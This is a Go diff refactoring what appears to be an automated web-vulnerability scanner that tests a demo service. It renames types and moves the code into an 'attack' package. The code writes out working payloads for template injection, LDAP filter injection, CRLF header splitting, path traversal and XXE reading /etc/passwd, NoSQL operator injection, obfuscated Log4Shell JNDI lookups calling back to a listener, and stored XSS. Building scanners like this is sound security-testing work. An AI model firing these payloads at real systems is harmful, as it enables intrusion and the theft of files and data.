@@ -1,4 +1,4 @@
-package main
+package attack
 
 import (
 	"context"
@@ -16,7 +16,7 @@ import (
 // planted is a file that is not for callers: the system's own, or the demo's.
 var planted = regexp.MustCompile(`root:[^:\n]*:0:0:|\[(?:fonts|extensions)\]|planted: [^"<\\\n]*`)
 
-func showsPlanted(a *attackAnswerOf) string {
+func showsPlanted(a *answer) string {
 	if m := planted.FindString(a.body); m != "" && !a.refused() {
 		return "the file says " + cut(m, 40)
 	}
@@ -24,9 +24,9 @@ func showsPlanted(a *attackAnswerOf) string {
 }
 
 // injection tries the other languages that text is put into.
-func (r *attackRun) injection(ctx context.Context) {
-	r.each(ctx, func(o *attackOp, p place) {
-		own := p.in != "header" || !slices.Contains(attackHeaders, p.name)
+func (r *runner) injection(ctx context.Context) {
+	r.each(ctx, func(o *operation, p place) {
+		own := p.in != "header" || !slices.Contains(commonHeaders, p.name)
 		if own && p.in != "path" {
 			r.templates(ctx, o, p)
 			r.directoryFilter(ctx, o, p)
@@ -48,11 +48,11 @@ func (r *attackRun) injection(ctx context.Context) {
 }
 
 // templates: what a template engine computes.
-func (r *attackRun) templates(ctx context.Context, o *attackOp, p place) {
+func (r *runner) templates(ctx context.Context, o *operation, p place) {
 	for _, form := range []string{"{{A*B}}", "{{mul A B}}", "{{print (mul A B)}}", "{{- mul A B -}}", "{{ with mul A B }}{{ . }}{{ end }}", "${A*B}", "#{A*B}", "<%= A*B %>", "@(A*B)", "{A*B}"} {
 		a, b, product := numbers()
 		text := strings.NewReplacer("A", fmt.Sprint(a), "B", fmt.Sprint(b)).Replace(form)
-		r.try(ctx, rowInject, o.called(p, "template"), form, o.sent(p, written{text: text}, func(ans *attackAnswerOf) string {
+		r.try(ctx, rowInject, o.called(p, "template"), form, o.sent(p, written{text: text}, func(ans *answer) string {
 			if ans.ok() && strings.Contains(ans.body, product) {
 				return "the template computed " + product
 			}
@@ -62,10 +62,10 @@ func (r *attackRun) templates(ctx context.Context, o *attackOp, p place) {
 }
 
 // directoryFilter: a filter of LDAP that is closed, and another begun.
-func (r *attackRun) directoryFilter(ctx context.Context, o *attackOp, p place) {
+func (r *runner) directoryFilter(ctx context.Context, o *operation, p place) {
 	for _, attribute := range []string{"id", "uid", "cn", "objectClass"} {
 		yes, no := written{text: "*)(" + attribute + "=*))(|(" + attribute + "=*"}, written{text: "zq)(" + attribute + "=zq))(|(" + attribute + "=zq"}
-		r.try(ctx, rowInject, o.called(p, "LDAP filter"), attribute, o.pair(p, yes, no, func(yes, no *attackAnswerOf) string {
+		r.try(ctx, rowInject, o.called(p, "LDAP filter"), attribute, o.pair(p, yes, no, func(yes, no *answer) string {
 			if yes.ok() && no.ok() && len(yes.body) > len(no.body) {
 				return fmt.Sprintf("the filter became another one: %d bytes of answer instead of %d", len(yes.body), len(no.body))
 			}
@@ -75,7 +75,7 @@ func (r *attackRun) directoryFilter(ctx context.Context, o *attackOp, p place) {
 }
 
 // answerSplitting: a line end that reaches the head of the answer.
-func (r *attackRun) answerSplitting(ctx context.Context, o *attackOp, p place) {
+func (r *runner) answerSplitting(ctx context.Context, o *operation, p place) {
 	for _, w := range []written{
 		{text: "zq\r\nX-Planted: ", name: "CR LF"},
 		{text: "zq\nX-Planted: ", name: "LF"},
@@ -84,7 +84,7 @@ func (r *attackRun) answerSplitting(ctx context.Context, o *attackOp, p place) {
 	} {
 		_, _, product := numbers()
 		w.text += product
-		r.try(ctx, rowInject, o.called(p, "line end into the head of the answer"), w.name, o.sent(p, w, func(ans *attackAnswerOf) string {
+		r.try(ctx, rowInject, o.called(p, "line end into the head of the answer"), w.name, o.sent(p, w, func(ans *answer) string {
 			if ans.header.Get("X-Planted") == product {
 				return "the answer has a header of the caller's"
 			}
@@ -94,7 +94,7 @@ func (r *attackRun) answerSplitting(ctx context.Context, o *attackOp, p place) {
 }
 
 // traversal: a path that leads out of its folder.
-func (r *attackRun) traversal(ctx context.Context, o *attackOp, p place) {
+func (r *runner) traversal(ctx context.Context, o *operation, p place) {
 	for _, w := range []written{
 		{text: "../partners.txt", name: "../"},
 		{text: "../../../../../../etc/passwd", name: "../ to the system"},
@@ -113,14 +113,14 @@ func (r *attackRun) traversal(ctx context.Context, o *attackOp, p place) {
 }
 
 // operators: a document database's operators where a text is meant.
-func (r *attackRun) operators(ctx context.Context, o *attackOp) {
+func (r *runner) operators(ctx context.Context, o *operation) {
 	if o.method != http.MethodPost || r.stopped != nil {
 		return
 	}
 	for _, op := range []struct {
 		name, arg string
 	}{{"$ne", ""}, {"$gt", ""}, {"$regex", ".*"}} {
-		e := func(ctx context.Context, s *attackSession) (string, error) {
+		e := func(ctx context.Context, s *session) (string, error) {
 			right, err := s.send(ctx, o.request(nil, "", ""))
 			if err != nil || right.refused() || right.status < 400 || right.status >= 500 {
 				return "", err // only what is refused with texts is worth getting with operators
@@ -143,13 +143,13 @@ func (r *attackRun) operators(ctx context.Context, o *attackOp) {
 }
 
 // entities: XML that reads files (XXE).
-func (r *attackRun) entities(ctx context.Context, o *attackOp) {
+func (r *runner) entities(ctx context.Context, o *operation) {
 	for _, v := range []struct{ name, head string }{
 		{"a file of the service", `<!DOCTYPE ` + o.root + ` [<!ENTITY zq SYSTEM "file:///partners.txt">]>`},
 		{"a file of the system", `<!DOCTYPE ` + o.root + ` [<!ENTITY zq SYSTEM "file:///etc/passwd">]>`},
 		{"in lines, with a declaration", "<?xml version=\"1.0\"?>\n<!DOCTYPE " + o.root + " [\n<!ENTITY zq\nSYSTEM 'file:///partners.txt' >\n]>\n"},
 	} {
-		r.try(ctx, rowInject, fmt.Sprintf("%s %s: external entity of XML", o.method, o.path), v.name, func(ctx context.Context, s *attackSession) (string, error) {
+		r.try(ctx, rowInject, fmt.Sprintf("%s %s: external entity of XML", o.method, o.path), v.name, func(ctx context.Context, s *session) (string, error) {
 			req := o.request(nil, "", "")
 			req.body = o.xml(v.head, func(string) string { return "&zq;" })
 			a, err := s.send(ctx, req)
@@ -162,7 +162,7 @@ func (r *attackRun) entities(ctx context.Context, o *attackOp) {
 }
 
 // lookups: names in headers that a log looks up at the attacker's (Log4Shell).
-func (r *attackRun) lookups(ctx context.Context, o *attackOp, p place) {
+func (r *runner) lookups(ctx context.Context, o *operation, p place) {
 	if r.listen == nil || r.found(rowInject, "a name in "+p.name+" that the log looks up") > 0 {
 		return // once is enough: there is one log
 	}
@@ -175,7 +175,7 @@ func (r *attackRun) lookups(ctx context.Context, o *attackOp, p place) {
 		{text: "${${env:ZQ:-j}ndi${env:ZQ:-:}ldap" + to, name: "by the environment"},
 		{text: "${jndi:dns" + to, name: "DNS"},
 	} {
-		ok := r.try(ctx, rowInject, "a name in "+p.name+" that the log looks up", w.name, func(ctx context.Context, s *attackSession) (string, error) {
+		ok := r.try(ctx, rowInject, "a name in "+p.name+" that the log looks up", w.name, func(ctx context.Context, s *session) (string, error) {
 			before := r.listen.calls.Load()
 			if _, err := s.send(ctx, o.request(&p, w.text, "")); err != nil {
 				return "", err
@@ -227,14 +227,14 @@ func listenForCallbacks(ctx context.Context) (*callbacks, error) {
 }
 
 // storedScript leaves a script with one operation and finds it in the page of another.
-func (r *attackRun) storedScript(ctx context.Context) {
+func (r *runner) storedScript(ctx context.Context) {
 	create, page := r.op("createOrder"), r.op("orderReceipt")
 	if create == nil || page == nil || r.stopped != nil {
 		return
 	}
 	note := place{in: "body", at: []string{"note"}}
 	for _, w := range scriptWritings(note) {
-		r.try(ctx, rowXSS, create.called(note, "a script for whoever prints it"), w.name, func(ctx context.Context, s *attackSession) (string, error) {
+		r.try(ctx, rowXSS, create.called(note, "a script for whoever prints it"), w.name, func(ctx context.Context, s *session) (string, error) {
 			a, err := s.send(ctx, create.request(&note, w.text, w.as))
 			if err != nil || !a.ok() {
 				return "", err
